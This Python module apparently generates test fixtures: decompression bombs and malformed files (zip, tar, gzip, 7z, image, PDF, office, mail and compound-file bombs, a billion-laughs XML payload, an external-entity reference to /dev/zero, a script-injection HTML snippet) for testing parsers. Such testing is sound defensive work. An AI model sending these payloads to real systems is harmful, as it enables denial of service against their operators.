"""Generators of hostile material: bombs and polyglots, written from the formats' own descriptions.

Each bomb unpacks, or says it unpacks, to `SIZE` bytes or more, or to endless work. Nothing here is
taken from anywhere; no file is kept, everything is made when a test asks for it.
"""

import base64
import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from functools import cache

import libarchive

MIB = 1 << 20
SIZE = 4 * MIB
MANY = 3000
Maker = Callable[[], bytes]
BOMBS: dict[str, tuple[str, Maker]] = {}


def bomb(name: str, suffix: str) -> Callable[[Maker], Maker]:
    def keep(maker: Maker) -> Maker:
        assert name not in BOMBS
        BOMBS[name] = (suffix, maker)
        return maker

    return keep


@cache
def zeros() -> bytes:
    return bytes(SIZE)


def zipped(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", method) as archive:
        for name, content in members.items():
            archive.writestr(zipfile.ZipInfo(name), content, compress_type=method)
    return target.getvalue()


def tarred(members: dict[str, bytes]) -> bytes:
    target = io.BytesIO()
    with tarfile.open(fileobj=target, mode="w", format=tarfile.GNU_FORMAT) as archive:
        for name, content in members.items():
            entry = tarfile.TarInfo(name)
            entry.size = len(content)
            archive.addfile(entry, io.BytesIO(content))
    return target.getvalue()


def written(kind: str, members: dict[str, bytes], packing: str | None = None) -> bytes:
    """Write an archive with libarchive, for the formats the standard library cannot write."""
    out: list[bytes] = []

    def take(chunk: bytes) -> int:
        out.append(bytes(chunk))
        return len(chunk)

    with libarchive.custom_writer(take, kind, packing) as archive:
        for name, content in members.items():
            archive.add_file_from_memory(name, len(content), content)
    return b"".join(out)


def locked_zip(contents: dict[str, bytes], password: str, way: str) -> bytes:
    out: list[bytes] = []
    options = f"zip:encryption={way}"

    def write(chunk):
        out.append(bytes(chunk))
        return len(chunk)

    with libarchive.custom_writer(write, "zip", options=options, passphrase=password) as archive:
        for name, content in contents.items():
            archive.add_file_from_memory(name, len(content), content)
    return b"".join(out)


def mail(*parts: bytes, head: bytes = b"") -> bytes:
    body = b"".join(b"--b\r\n" + part + b"\r\n" for part in parts)
    start = b"From: a@example.org\r\nMessage-ID: <1@example.org>\r\nMIME-Version: 1.0\r\n"
    return start + head + b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" + body + b"--b--\r\n"


def attached(name: str, content: bytes) -> bytes:
    head = (
        f'Content-Type: application/octet-stream; name="{name}"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
    )
    return head.encode() + base64.encodebytes(content)


# --- zip


for label, method in (
    ("deflate", zipfile.ZIP_DEFLATED),
    ("bzip2", zipfile.ZIP_BZIP2),
    ("lzma", zipfile.ZIP_LZMA),
):
    bomb(f"zip flat {label}", ".zip")(lambda method=method: zipped({"zeros": zeros()}, method))


@bomb("zip of equal bombs", ".zip")
def _() -> bytes:
    inner = zipped({"zeros": zeros()})
    return zipped({f"{number}.zip": inner for number in range(50)})


@bomb("zip of different bombs", ".zip")
def _() -> bytes:
    return zipped({f"{number}.zip": zipped({"zeros": bytes(MIB * 3 // 4 + number)}) for number in range(12)})


@bomb("zip nested ten deep", ".zip")
def _() -> bytes:
    content = zeros()
    for level in range(10):
        content = zipped({f"{level}.zip": content})
    return content


@bomb("zip many members", ".zip")
def _() -> bytes:
    return zipped({f"{number}": b"" for number in range(MANY)})


@bomb("zip many members nested", ".zip")
def _() -> bytes:
    return zipped(
        {f"{n}.zip": zipped({f"{n}-{number}": b"" for number in range(MANY // 5)}) for n in range(8)}
    )


def central(name: bytes, offset: int, packed: int, unpacked: int, method: int = 8) -> bytes:
    head = struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, method, 0, 0, 0, packed, unpacked,
                       len(name), 0, 0, 0, 0, 0, offset)  # fmt: skip
    return head + name


def local(name: bytes, packed: int, unpacked: int, extra: bytes = b"", method: int = 8) -> bytes:
    head = struct.pack(
        "<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, method, 0, 0, 0, packed, unpacked, len(name), len(extra)
    )
    return head + name + extra


def end(n_entries: int, length: int, offset: int, comment: bytes = b"") -> bytes:
    return (
        struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, n_entries, n_entries, length, offset, len(comment))
        + comment
    )


def deflated(content: bytes) -> bytes:
    engine = zlib.compressobj(9, zlib.DEFLATED, -15)
    return engine.compress(content) + engine.flush()


@bomb("zip overlap full", ".zip")
def _() -> bytes:
    """Every entry of the directory names the same member."""
    kernel = deflated(bytes(MIB))
    body = local(b"a", len(kernel), MIB) + kernel
    directory = b"".join(central(b"%d" % number, 0, len(kernel), 1000) for number in range(200))
    return body + directory + end(200, len(directory), len(body))


@bomb("zip overlap quoted", ".zip")
def _() -> bytes:
    """Each local header is quoted, as stored bytes, by the member before it."""
    kernel = deflated(bytes(MIB))
    names = [b"%d" % number for number in range(100)]
    tail = local(names[-1], len(kernel), MIB) + kernel
    files = [(names[-1], len(kernel), MIB)]
    for name in reversed(names[:-1]):
        head = tail[: 30 + len(name)]
        quoted = struct.pack("<BHH", 0, len(head), len(head) ^ 0xFFFF)
        packed, unpacked = files[-1][1] + len(quoted) + len(head), files[-1][2] + len(head)
        tail = local(name, packed, unpacked) + quoted + tail
        files.append((name, packed, unpacked))
    entries, at = [], 0
    for name, packed, unpacked in reversed(files):
        entries.append(central(name, at, packed, unpacked))
        at += 30 + len(name) + 5
    directory = b"".join(entries)
    return tail + directory + end(len(entries), len(directory), len(tail))


@bomb("zip overlap by extra field", ".zip")
def _() -> bytes:
    kernel = deflated(bytes(MIB))
    second = local(b"b", len(kernel), MIB) + kernel
    first = local(b"a", len(kernel), MIB, extra=struct.pack("<HH", 0x9999, 31) + second[:31])
    body = first + second[31:]
    directory = central(b"a", 0, len(kernel), MIB) + central(b"b", 35, len(kernel), MIB)
    return body + directory + end(2, len(directory), len(body))


@bomb("zip that lies small", ".zip")
def _() -> bytes:
    kernel = deflated(zeros())
    body = local(b"a", len(kernel), 10) + kernel
    directory = central(b"a", 0, len(kernel), 10)
    return body + directory + end(1, len(directory), len(body))


@bomb("zip that lies large", ".zip")
def _() -> bytes:
    body = local(b"a", 5, 0xFFFFFFF0) + b"words"
    directory = central(b"a", 0, 5, 0xFFFFFFF0)
    return body + directory + end(1, len(directory), len(body))


@bomb("zip64 of an exabyte", ".zip")
def _() -> bytes:
    extra = struct.pack("<HHQ", 1, 8, 1 << 60)
    body = local(b"a", 5, 0xFFFFFFFF) + b"words"
    entry = struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 45, 45, 0, 8, 0, 0, 0, 5, 0xFFFFFFFF, 1, len(extra),
                        0, 0, 0, 0, 0) + b"a" + extra  # fmt: skip
    return body + entry + end(1, len(entry), len(body))


@bomb("zip with a directory of gigabytes", ".zip")
def _() -> bytes:
    content = bytearray(zipped({"a": b"words"}))
    at = content.rfind(b"PK\x05\x06")
    content[at + 12 : at + 16] = struct.pack("<I", 3 << 30)
    return bytes(content)


@bomb("zip64 with a directory of exabytes", ".zip")
def _() -> bytes:
    body = local(b"a", 5, 5, method=0) + b"words"
    directory = central(b"a", 0, 5, 5, method=0)
    wide = struct.pack("<4sQHHIIQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, 1, 1, 1 << 60, len(body))
    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, len(body) + len(directory), 1)
    return body + directory + wide + locator + end(0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF)


@bomb("zip with names of 60,000 letters", ".zip")
def _() -> bytes:
    return zipped({f"{number}" + "n" * 60_000: b"x" for number in range(60)})


@bomb("zip with a path of 30,000 folders", ".zip")
def _() -> bytes:
    return zipped({"a/" * 30_000 + "x": b"words"})


@bomb("zip without a directory", ".zip")
def _() -> bytes:
    kernel = deflated(zeros())
    return local(b"a", len(kernel), SIZE) + kernel


@bomb("zip locked and huge", ".zip")
def _() -> bytes:
    content = bytearray(zipped({"a": zeros()}))
    content[6] |= 1
    at = content.rfind(b"PK\x01\x02")
    content[at + 8] |= 1
    return bytes(content)


@bomb("zip of itself, two by two", ".zip")
def _() -> bytes:
    content = b"x" * 1000
    for level in range(9):
        content = zipped({f"{level}-{number}.zip": content + bytes([number]) for number in range(2)})
    return content


# --- one stream


@bomb("gzip flat", ".gz")
def _() -> bytes:
    return gzip.compress(zeros())


@bomb("gzip one after another", ".gz")
def _() -> bytes:
    return gzip.compress(bytes(MIB // 2)) * 40


@bomb("gzip of nothing, many times", ".gz")
def _() -> bytes:
    return gzip.compress(b"") * 20_000


@bomb("gzip nested", ".gz")
def _() -> bytes:
    content = zeros()
    for _level in range(8):
        content = gzip.compress(content)
    return content


@bomb("gzip with a name without end", ".gz")
def _() -> bytes:
    return b"\x1f\x8b\x08\x08" + bytes(4) + b"\x00\x03" + b"n" * MIB


@bomb("bzip2 flat", ".bz2")
def _() -> bytes:
    return bz2.compress(zeros())


@bomb("bzip2 one after another", ".bz2")
def _() -> bytes:
    return bz2.compress(bytes(MIB)) * 30


@bomb("xz flat", ".xz")
def _() -> bytes:
    return lzma.compress(zeros())


@bomb("xz one after another", ".xz")
def _() -> bytes:
    return lzma.compress(bytes(MIB)) * 30


@bomb("lzma flat", ".lzma")
def _() -> bytes:
    return lzma.compress(zeros(), lzma.FORMAT_ALONE)


@bomb("lzma with a dictionary of 4 GiB", ".lzma")
def _() -> bytes:
    content = bytearray(lzma.compress(zeros(), lzma.FORMAT_ALONE))
    content[1:5] = struct.pack("<I", 0xFFFFFFFF)
    return bytes(content)


@bomb("zstandard of runs", ".zst")
def _() -> bytes:
    """Blocks of type RLE (RFC 8878, 3.1.1.2.2): four bytes each stand for 128 KiB."""
    run = struct.pack("<I", (131_072 << 3) | 2)[:3] + b"\0"
    last = struct.pack("<I", (131_072 << 3) | 3)[:3] + b"\0"
    return b"\x28\xb5\x2f\xfd" + b"\x00\x50" + run * 2000 + last


@bomb("zstandard with a window of terabytes", ".zst")
def _() -> bytes:
    return b"\x28\xb5\x2f\xfd" + b"\x00\xff" + struct.pack("<I", (131_072 << 3) | 3)[:3] + b"\0"


for packing, suffix in (("zstd", "zst"), ("lz4", "lz4"), ("compress", "Z"), ("lzip", "lz")):
    bomb(f"tar under {packing}", f".tar.{suffix}")(
        lambda packing=packing: written("ustar", {"zeros": zeros()}, packing)
    )
for packing, pack in (("gzip", gzip.compress), ("bzip2", bz2.compress), ("xz", lzma.compress)):
    bomb(f"tar under {packing}", f".tar.{packing}")(lambda pack=pack: pack(tarred({"zeros": zeros()})))


# --- other archives


def tar_header(name: bytes, size: bytes, kind: bytes = b"0", tail: bytes = b"") -> bytes:
    head = bytearray(512)
    head[: len(name)] = name
    head[100:108], head[108:116], head[116:124] = b"0000644\0", b"0000000\0", b"0000000\0"
    head[124 : 124 + len(size)] = size
    head[136:148] = b"00000000000\0"
    head[156:157] = kind
    head[257 : 257 + len(tail or b"ustar\x0000")] = tail or b"ustar\x0000"
    head[148:156] = b"        "
    head[148:156] = b"%06o\0 " % sum(head)
    return bytes(head)


@bomb("tar that declares eight gigabytes", ".tar")
def _() -> bytes:
    return tar_header(b"a", b"77777777777\0") + bytes(1024)


@bomb("tar that declares an exabyte", ".tar")
def _() -> bytes:
    return tar_header(b"a", b"\x80" + struct.pack(">3xQ", 1 << 60)) + bytes(1024)


@bomb("tar that declares less than nothing", ".tar")
def _() -> bytes:
    return tar_header(b"a", b"\xff" * 12) + bytes(1024)


@bomb("tar sparse by a terabyte", ".tar")
def _() -> bytes:
    head = bytearray(tar_header(b"a", b"00000001000\0", b"S", b"ustar  \0"))
    head[386:410] = b"00000000000\x0000000001000\0"
    head[483:495] = b"\x80" + struct.pack(">3xQ", 1 << 40)
    head[148:156] = b"        "
    head[148:156] = b"%06o\0 " % sum(head)
    return bytes(head) + b"x" * 512 + bytes(1024)


@bomb("tar sparse by pax", ".tar")
def _() -> bytes:
    records = b""
    for key, value in ((b"GNU.sparse.major", b"1"), (b"GNU.sparse.minor", b"0"), (b"GNU.sparse.name", b"a"),
                       (b"GNU.sparse.realsize", b"%d" % (1 << 40))):  # fmt: skip
        line = b" " + key + b"=" + value + b"\n"
        length = len(line) + 2
        records += (b"%d" % length) + line
    padded = records.ljust(512, b"\0")
    body = b"1\n0\n1\n".ljust(512, b"\0") + b"x".ljust(512, b"\0")
    return (
        tar_header(b"p", b"%011o\0" % len(records), b"x")
        + padded
        + tar_header(b"a", b"%011o\0" % 1024)
        + body
    ) + bytes(1024)


@bomb("tar with a name of gigabytes", ".tar")
def _() -> bytes:
    return tar_header(b"././@LongLink", b"07777777777\0", b"L", b"ustar  \0") + b"n" * 4096


@bomb("tar with a pax header of gigabytes", ".tar")
def _() -> bytes:
    return tar_header(b"p", b"07777777777\0", b"x") + b"99999999 path=" + b"n" * 4096


@bomb("tar of many members", ".tar")
def _() -> bytes:
    return tarred({f"{number}": b"" for number in range(MANY)})


@bomb("tar nested twelve deep", ".tar")
def _() -> bytes:
    content = b"words"
    for level in range(12):
        content = tarred({f"{level}.tar": content})
    return content


@bomb("tar of links in a ring", ".tar")
def _() -> bytes:
    target = io.BytesIO()
    with tarfile.open(fileobj=target, mode="w") as archive:
        for name, other, kind in (
            ("a", "b", tarfile.SYMTYPE),
            ("b", "a", tarfile.LNKTYPE),
            ("c", "c", tarfile.LNKTYPE),
        ):
            entry = tarfile.TarInfo(name)
            entry.type, entry.linkname = kind, other
            archive.addfile(entry)
    return target.getvalue()


@bomb("7z flat", ".7z")
def _() -> bytes:
    return written("7zip", {"zeros": zeros()})


@bomb("7z of 7z", ".7z")
def _() -> bytes:
    inner = written("7zip", {"zeros": zeros()})
    return written("7zip", {f"{number}.7z": inner + bytes(number) for number in range(8)})


@bomb("7z of many members", ".7z")
def _() -> bytes:
    return written("7zip", {f"{number}": b"x" for number in range(MANY)})


@bomb("7z with a head beyond its end", ".7z")
def _() -> bytes:
    start = struct.pack("<QQI", 1 << 40, 1 << 40, 0)
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", zlib.crc32(start)) + start


@bomb("disc image of zeros", ".iso")
def _() -> bytes:
    return written("iso9660", {"zeros": zeros()})


@bomb("disc image whose folder holds itself", ".iso")
def _() -> bytes:
    """The record of the folder `a` is made to point at the root, which holds `a`."""
    content = bytearray(written("iso9660", {"a/b": b"words"}))
    root = content[0x8000 + 156 : 0x8000 + 156 + 34]
    at = content.find(b"\x01A", 0x9000)
    if at > 0:
        content[at - 30 : at - 30 + 8] = root[2:10]
    return bytes(content)


@bomb("cpio that declares gigabytes", ".cpio")
def _() -> bytes:
    fields = b"".join(b"%08X" % value for value in (1, 0o100644, 0, 0, 1, 0, 0xFFFFFFF0, 0, 0, 0, 0, 2, 0))
    return b"070701" + fields + b"a\0" + bytes(64)


@bomb("ar that declares gigabytes", ".ar")
def _() -> bytes:
    return (
        b"!<arch>\n"
        + b"a/".ljust(16)
        + b"0".ljust(12)
        + b"0".ljust(6) * 2
        + b"644".ljust(8)
        + b"9999999999`\n"
        + b"x"
    )


@bomb("cabinet that declares gigabytes", ".cab")
def _() -> bytes:
    head = b"MSCF" + struct.pack("<IIIIIBBHHHHH", 0, 200, 0, 44, 0, 3, 1, 1, 1, 0, 0, 0)
    folder = struct.pack("<IHH", 80, 1, 1)
    entry = struct.pack("<IIHHHH", 0xFFFFFFF0, 0, 0, 0, 0, 0x20) + b"a\0"
    return head + folder + entry + struct.pack("<IHH", 0, 4, 0xFFFF) + b"CK\x03\x00" + bytes(100)


# --- images


@bomb("png of gigapixels", ".png")
def _() -> bytes:
    return png(2_000_000, 2_000_000)


def png(width: int, height: int, behind: bytes = b"", text: bytes = b"") -> bytes:
    def chunk(kind: bytes, content: bytes) -> bytes:
        return (
            struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))
        )

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    told = chunk(b"tEXt", b"Comment\0" + text) if text else b""
    pixels = chunk(b"IDAT", zlib.compress(b"\0" * (width + 1) * min(height, 4)) if width < 5000 else b"x")
    return b"\x89PNG\r\n\x1a\n" + head + told + pixels + chunk(b"IEND", b"") + behind


@bomb("pngs that together have gigapixels", ".zip")
def _() -> bytes:
    return zipped({f"{number}.png": png(44_000, 44_000 + number) for number in range(12)})


@bomb("gif of gigapixels", ".gif")
def _() -> bytes:
    return b"GIF89a" + struct.pack("<HHBBB", 65_535, 65_535, 0, 0, 0) + b";"


@bomb("gif of many large frames", ".gif")
def _() -> bytes:
    frame = b"," + struct.pack("<HHHHB", 0, 0, 20_000, 20_000, 0) + b"\x02\x01\x00\x00"
    return b"GIF89a" + struct.pack("<HHBBB", 20_000, 20_000, 0, 0, 0) + frame * 500 + b";"


def tiff(width: int, height: int, again: bool = False, n_pages: int = 1) -> bytes:
    out = b"II*\0" + struct.pack("<I", 8)
    for page in range(n_pages):
        at = 8 + page * 30
        after = 8 if again else (at + 30 if page + 1 < n_pages else 0)
        out += struct.pack("<HHHIIHHIII", 2, 256, 4, 1, width, 257, 4, 1, height, after)
    return out


@bomb("tiff of gigapixels", ".tif")
def _() -> bytes:
    return tiff(1_000_000, 1_000_000)


@bomb("tiff whose last page is its first", ".tif")
def _() -> bytes:
    return tiff(60_000, 60_000, again=True)


@bomb("tiff of many pages", ".tif")
def _() -> bytes:
    return tiff(20_000, 20_000, n_pages=2000)


@bomb("bmp of gigapixels", ".bmp")
def _() -> bytes:
    return b"BM" + struct.pack("<IIIIiiHH", 70, 0, 54, 40, 500_000, -500_000, 1, 24) + bytes(40)


@bomb("jpeg of gigapixels", ".jpg")
def _() -> bytes:
    return jpeg(65_500, 65_500)


def jpeg(width: int, height: int, comment: bytes = b"", behind: bytes = b"") -> bytes:
    told = b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment if comment else b""
    frame = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\x00"
    return (
        b"\xff\xd8\xff\xe0\x00\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0"
        + told
        + frame
        + b"\xff\xda\x00\x02\xff\xd9"
        + behind
    )


# --- PDF


def pdf(*objects: bytes, trailer: bytes = b"/Root 1 0 R") -> bytes:
    out = b"%PDF-1.7\n"
    places = []
    for number, content in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    return out + b"trailer\n<</Size %d %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, at)


def stream(head: bytes, content: bytes) -> bytes:
    return b"<<%s /Length %d>>\nstream\n%s\nendstream" % (head, len(content), content)


def with_files(*streams: bytes) -> bytes:
    pairs = b" ".join(
        b"(%d) <</Type/Filespec/F(f%d)/EF<</F %d 0 R>>>>" % (n, n, n + 3) for n in range(len(streams))
    )
    root = b"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[" + pairs + b"]>>>>>>"
    return pdf(root, b"<</Type/Pages/Kids[]/Count 0>>", *streams)


@bomb("pdf with an attached bomb", ".pdf")
def _() -> bytes:
    return with_files(stream(b"/Type/EmbeddedFile/Filter/FlateDecode", zlib.compress(zeros())))


@bomb("pdf with a bomb packed twice", ".pdf")
def _() -> bytes:
    return with_files(stream(b"/Filter[/FlateDecode/FlateDecode]", zlib.compress(zlib.compress(zeros()))))


@bomb("pdf with a bomb packed in an unknown way", ".pdf")
def _() -> bytes:
    return with_files(stream(b"/Filter[/RunLengthDecode]", b"\x81\0" * 100_000))


@bomb("pdf with many attachments", ".pdf")
def _() -> bytes:
    return with_files(*(stream(b"/Type/EmbeddedFile", b"%d" % number) for number in range(1500)))


@bomb("pdf whose list of attachments holds itself", ".pdf")
def _() -> bytes:
    root = b"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles 3 0 R>>>>"
    return pdf(root, b"<</Type/Pages/Kids[]/Count 0>>", b"<</Kids[3 0 R 3 0 R]/Limits[(a)(z)]>>")


@bomb("pdf whose pages hold themselves", ".pdf")
def _() -> bytes:
    return pdf(
        b"<</Type/Catalog/Pages 2 0 R/EmbeddedX 1>>", b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 1000000>>"
    )


@bomb("pdf whose tables point at each other", ".pdf")
def _() -> bytes:
    content = pdf(b"<</Type/Catalog/Pages 2 0 R/EmbeddedX 1>>", b"<</Type/Pages/Kids[]/Count 0>>")
    at = content.rfind(b"xref\n0")
    return content.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % at)


@bomb("pdf with a packed bomb for a table", ".pdf")
def _() -> bytes:
    table = stream(b"/Type/XRef/Size 9/W[1 2 1]/Root 1 0 R/Filter/FlateDecode", zlib.compress(zeros()))
    out = b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R/ObjStm 1>>\nendobj\n"
    return out + b"9 0 obj\n" + table + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(out)


@bomb("pdf with a packed bomb of objects", ".pdf")
def _() -> bytes:
    held = stream(b"/Type/ObjStm/N 1000000/First 10/Filter/FlateDecode", zlib.compress(b"1 0 " * (SIZE // 4)))
    return pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[]/Count 0>>", held)


@bomb("pdf of arrays in arrays", ".pdf")
def _() -> bytes:
    deep = b"[" * 50_000 + b"]" * 50_000
    return pdf(b"<</Type/Catalog/Pages 2 0 R/EmbeddedX " + deep + b">>", b"<</Type/Pages/Kids[]/Count 0>>")


# --- XML and office packages


def laughs(kind: str = "lolz") -> bytes:
    lines = [b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e0 'ha'>"]
    lines.extend(b"<!ENTITY e%d '%s'>" % (n, b"&e%d;" % (n - 1) * 10) for n in range(1, 12))
    return b"".join(lines) + b"]><x>&e11;</x>"


@bomb("xml of laughs", ".xml")
def _() -> bytes:
    return laughs()


@bomb("xml of one long entity", ".xml")
def _() -> bytes:
    return (
        b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a '"
        + b"a" * 50_000
        + b"'>]><x>"
        + b"&a;" * 5000
        + b"</x>"
    )


@bomb("xml that reaches outside", ".xml")
def _() -> bytes:
    return b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a SYSTEM 'file:///dev/zero'>]><x>&a;</x>"


def package(folder: str, members: dict[str, bytes]) -> bytes:
    return zipped({"[Content_Types].xml": b"<t/>", f"{folder}/document.xml": b"<w/>", **members})


for folder, suffix in (("word", ".docx"), ("xl", ".xlsx"), ("ppt", ".pptx")):
    bomb(f"{suffix[1:]} with a bomb for a picture", suffix)(
        lambda folder=folder: package(folder, {f"{folder}/media/a.png": zeros()})
    )
bomb("docx of laughs", ".docx")(
    lambda: package("word", {"word/x.xml": laughs(), "word/media/a.xml": laughs()})
)
bomb("docx with a bomb for words", ".docx")(lambda: package("word", {"word/x.xml": zeros()}))
bomb("odt with a bomb for a picture", ".odt")(
    lambda: zipped({"mimetype": b"application/vnd.oasis.opendocument.text", "Pictures/a.png": zeros()})
)
bomb("docx in docx in docx", ".docx")(
    lambda: package("word", {"word/embeddings/a.docx": package("word", {"word/embeddings/b.docx": package(
        "word", {"word/media/a.bin": zeros()})})})
)  # fmt: skip


# --- mail


@bomb("mail of parts in parts", ".eml")
def _() -> bytes:
    content = b"words"
    for level in range(2000):
        content = b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n%s" % (
            level, level, content)  # fmt: skip
    return b"From: a@example.org\r\nMessage-ID: <1@x>\r\n" + content


@bomb("mail in mail in mail", ".eml")
def _() -> bytes:
    content = b"From: a@example.org\r\nMessage-ID: <1@x>\r\n\r\nwords"
    for level in range(30):
        head = b"From: a@example.org\r\nMessage-ID: <%d@x>\r\nMIME-Version: 1.0\r\n" % level
        content = head + b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (level, level) + (
            b"Content-Type: message/rfc822\r\n\r\n" + content)  # fmt: skip
    return content


@bomb("mail of many parts", ".eml")
def _() -> bytes:
    return mail(*(b"Content-Type: image/png\r\n\r\n%d" % number for number in range(12_000)))


@bomb("mail with a header of megabytes", ".eml")
def _() -> bytes:
    return mail(b"Content-Type: image/png\r\n\r\nx", head=b"X-Long: " + b"a" * (2 * MIB) + b"\r\n")


@bomb("mail with many headers", ".eml")
def _() -> bytes:
    return mail(b"Content-Type: image/png\r\n\r\nx", head=b"Received: from a\r\n" * 30_000)


@bomb("mail with a bomb attached", ".eml")
def _() -> bytes:
    return mail(attached("a.zip", zipped({"zeros": zeros()})), attached("b.gz", gzip.compress(zeros())))


@bomb("mail of boundaries that almost match", ".eml")
def _() -> bytes:
    return mail(b"Content-Type: image/png\r\n\r\n" + b"--b \t \t x\r\n" * 60_000)


@bomb("mailbox of many messages", ".mbox")
def _() -> bytes:
    return b"From a Mon May  2 10:00:00 2016\nFrom: a@x\nSubject: x\n\nwords\n\n" * MANY


@bomb("mailbox of first lines", ".mbox")
def _() -> bytes:
    return b"From a\nFrom: a@x\n\n" + b"From a b\nFrom c d\n\n" * 20_000


# --- compound files, bundles, stores


def compound(table: bytes, directory: bytes, first: int = 1) -> bytes:
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16)
    head += struct.pack(
        "<HHHHH6xIIIIIIIII", 0x3E, 3, 0xFFFE, 9, 6, 0, 1, first, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0
    )
    head += struct.pack("<I", 0) + b"\xff" * 4 * 108
    return head[:512] + table.ljust(512, b"\xff") + directory.ljust(512, b"\0")


def entry(
    name: str, kind: int, child: int = 0xFFFFFFFF, left: int = 0xFFFFFFFF, size: int = 0, first: int = 1
) -> bytes:
    raw = name.encode("utf-16-le") + b"\0\0"
    return raw.ljust(64, b"\0") + struct.pack(
        "<HBBIII36xIII", len(raw), kind, 1, left, 0xFFFFFFFF, child, first, size, 0
    )


@bomb("compound file whose chain bites its tail", ".doc")
def _() -> bytes:
    return compound(struct.pack("<II", 0xFFFFFFFD, 1), entry("Root Entry", 5, 1) + entry("ObjectPool", 1, 1))


@bomb("compound file whose folders hold themselves", ".msg")
def _() -> bytes:
    parts = entry("Root Entry", 5, 1, first=0xFFFFFFFE) + entry("__attach_version1.0_#00000000", 1, 1, 1)
    return compound(struct.pack("<II", 0xFFFFFFFD, 0xFFFFFFFE), parts + entry("__properties_version1.0", 2))


@bomb("compound file with a stream of gigabytes", ".doc")
def _() -> bytes:
    parts = (
        entry("Root Entry", 5, 1, first=0xFFFFFFFE)
        + entry("ObjectPool", 1, 2)
        + entry("Package", 2, size=0xFFFFFFF0)
    )
    return compound(struct.pack("<II", 0xFFFFFFFD, 0xFFFFFFFE), parts)


def tnef(*attributes: tuple[int, bytes]) -> bytes:
    out = b"\x78\x9f\x3e\x22\x01\x00"
    for number, content in attributes:
        out += (
            struct.pack("<BHHI", 2, number, 6, len(content))
            + content
            + struct.pack("<H", sum(content) & 0xFFFF)
        )
    return out


@bomb("bundle in bundle in bundle", ".tnef")
def _() -> bytes:
    content = tnef((0x9002, b"x"), (0x8010, b"a\0"), (0x800F, b"words"))
    for _level in range(20):
        content = tnef((0x9002, b"x"), (0x8010, b"a.tnef\0"), (0x800F, content))
    return content


@bomb("bundle that declares gigabytes", ".tnef")
def _() -> bytes:
    return b"\x78\x9f\x3e\x22\x01\x00" + struct.pack("<BHHI", 2, 0x800F, 6, 0xFFFFFFF0) + b"x" * 100


@bomb("bundle of rich text that grows", ".tnef")
def _() -> bytes:
    packed = bytes([0xFF]) + struct.pack(">H", 0x000F) * 8
    raw = struct.pack("<II4sI", 1 << 30, 1 << 30, b"LZFu", 0) + packed * 20_000
    prop = struct.pack("<IHHII", 1, 0x102, 0x1009, 1, len(raw)) + raw
    return tnef((0x9003, prop))


@bomb("mail store of noise", ".pst")
def _() -> bytes:
    return b"!BDN" + bytes(range(256)) * 200


# --- two faces


def sound(behind: bytes = b"") -> bytes:
    return (
        b"ID3\x03\0\0\0\0\0\0" + b"\xff\xfb\x90\x00" + bytes(413) + b"\xff\xfb\x90\x00" + bytes(413) + behind
    )


def wave() -> bytes:
    return (
        b"RIFF"
        + struct.pack("<I", 36)
        + b"WAVEfmt "
        + struct.pack("<IHHIIHH", 16, 1, 1, 8000, 8000, 1, 8)
        + b"data\0\0\0\0"
    )


def webp(behind: bytes = b"") -> bytes:
    return b"RIFF" + struct.pack("<I", 30) + b"WEBPVP8L" + struct.pack("<I", 10) + b"\x2f" + bytes(9) + behind


def elf() -> bytes:
    return b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 2, 62, 1) + bytes(200)


def exe() -> bytes:
    return b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + struct.pack("<HH", 0x8664, 1) + bytes(200)


GIF = (
    b"GIF89a"
    + struct.pack("<HHBBB", 1, 1, 0, 0, 0)
    + b","
    + struct.pack("<HHHHB", 0, 0, 1, 1, 0)
    + b"\x02\x02D\x01\0;"
)
BMP = b"BM" + struct.pack("<IIIIiiHH", 58, 0, 54, 40, 1, 1, 1, 24) + bytes(28)
PDF = pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[]/Count 0>>")
HTML = b"<!doctype html><html><body><script>alert(1)</script></body></html>"
MAIL = b"From: a@example.org\r\nMessage-ID: <1@x>\r\nSubject: x\r\nDate: Mon, 2 May 2016 10:00:00 +0300\r\n\r\nwords\r\n"
